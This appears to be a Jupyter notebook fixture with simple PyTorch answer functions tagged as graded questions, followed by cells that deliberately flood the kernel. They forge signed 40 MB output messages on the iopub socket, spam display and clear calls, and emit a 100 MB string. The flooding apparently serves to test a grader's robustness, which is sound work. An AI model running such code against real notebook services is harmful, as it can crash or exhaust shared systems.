# %%
import time

import torch

# %% question="double"
def double(t):
    return t * 2

# %% question="root"
def root(t):
    return t.sqrt()

# %% question="mean_of"
def mean_of(t):
    return t.double().mean().item()

# %% question="flatten_images"
def flatten_images(batch):
    return batch.flatten(1)

# %% question="rows_of_file"
def rows_of_file(path):
    lines = open(path).read().split()
    return [mean_of(torch.tensor([float(x) for x in line.split(",")])) for line in lines]

# %%
kernel = get_ipython().kernel
parent, text = kernel.get_parent("shell")["header"], b'{"name": "stdout", "text": "' + b"x" * 40_000_000 + b'"}'

def flood():
    sock, session = kernel.iopub_thread.socket, kernel.session
    for _ in range(40):
        parts = [session.pack(part) for part in (session.msg("stream")["header"], parent, {})] + [text]
        sock.send_multipart([b"<IDS|MSG>", session.sign(parts), *parts], copy=False)

kernel.iopub_thread.schedule(flood)
time.sleep(1)

# %%
from IPython.display import clear_output, display

for number in range(200):
    display("x" * 5000, display_id=str(number))
    clear_output()

# %%
"x" * 100_000_000
